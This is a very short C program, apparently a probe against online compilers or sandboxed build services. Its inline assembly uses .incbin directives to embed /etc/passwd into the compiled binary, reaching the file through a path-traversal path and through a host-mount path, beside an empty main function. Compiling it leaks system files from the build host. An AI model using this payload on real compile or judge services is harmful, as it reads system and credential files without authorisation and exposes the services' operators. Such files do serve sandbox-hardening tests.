__asm__(".incbin \"/box/none\"\n.incbin \"../../../etc/passwd\"\n.incbin \"/.host/etc/passwd\"");
int main(void) { return 0; }
